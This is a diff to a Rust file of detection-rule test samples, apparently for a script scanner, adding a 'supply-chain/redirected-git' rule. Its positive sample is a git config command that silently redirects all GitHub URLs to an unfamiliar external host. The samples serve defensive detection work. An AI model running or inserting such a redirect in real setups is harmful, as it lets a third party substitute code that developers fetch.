@@ -119,4 +119,15 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
             "echo \"127.0.0.1 app.local\" | sudo tee -a /etc/hosts\n",
         )],
     },
+    RuleSamples {
+        rule: "supply-chain/redirected-git",
+        hits: &[(
+            "run.sh",
+            "git config --global url.\"https://gh.stranger-tools.icu/\".insteadOf \"https://github.com/\"\n",
+        )],
+        misses: &[(
+            "run.sh",
+            "git config --global url.\"https://github.com/\".insteadOf \"git@github.com:\"\n",
+        )],
+    },
 ];
